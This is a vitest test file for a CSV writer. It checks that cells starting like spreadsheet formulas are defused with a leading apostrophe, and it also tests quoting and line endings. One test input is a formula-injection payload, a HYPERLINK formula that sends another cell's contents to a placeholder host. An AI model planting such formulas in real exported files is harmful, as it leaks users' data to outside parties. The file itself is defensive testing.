import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

describe('the one CSV writer', () => {
  it.each([
    ['=HYPERLINK("https://x.example/?d="&E2,"Click")', `"'=HYPERLINK(""https://x.example/?d=""&E2,""Click"")"`],
    ['+cmd', `"'+cmd"`],
    ['-1', `"'-1"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\tTab', `"'\tTab"`],
    ['\rReturn', `"'\rReturn"`],
  ])('defuses a cell that begins a formula: %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('quotes every field, doubles quotes, keeps new lines inside a field, ends rows with CRLF', () => {
    expect(
      toCsv([
        ['Name', 'Note'],
        ['Ann "A"', 'line 1\nline 2'],
        ['', null],
      ]),
    ).toBe('"Name","Note"\r\n"Ann ""A""","line 1\nline 2"\r\n"",""\r\n');
  });

  it('writes numbers the product computed as they are (a negative amount is not a formula)', () => {
    expect(csvCell(-12.5)).toBe('"-12.5"');
    expect(csvCell('a=b')).toBe('"a=b"');
  });
});
